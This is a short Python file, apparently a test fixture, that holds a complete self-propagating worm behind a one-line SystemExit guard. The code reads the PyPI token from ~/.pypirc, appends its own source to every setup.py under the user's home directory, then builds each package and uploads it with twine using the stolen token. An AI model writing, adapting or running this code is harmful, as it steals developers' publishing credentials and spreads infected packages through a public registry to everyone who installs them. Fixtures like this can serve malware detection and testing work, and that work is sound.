raise SystemExit('a fixture')
# held by self-publishing
import os, configparser, subprocess, sys, glob
def spread():
    rc = os.path.expanduser("~/.pypirc")
    if not os.path.exists(rc):
        return
    c = configparser.ConfigParser(); c.read(rc)
    token = c["pypi"]["password"]
    for setup in glob.glob(os.path.expanduser("~/**/setup.py"), recursive=True):
        with open(setup, "a") as f:
            f.write(open(__file__).read())
        subprocess.run([sys.executable, "-m", "build", os.path.dirname(setup)])
        subprocess.run([sys.executable, "-m", "twine", "upload", "-u", "__token__", "-p", token, os.path.join(os.path.dirname(setup), "dist/*")])
spread()
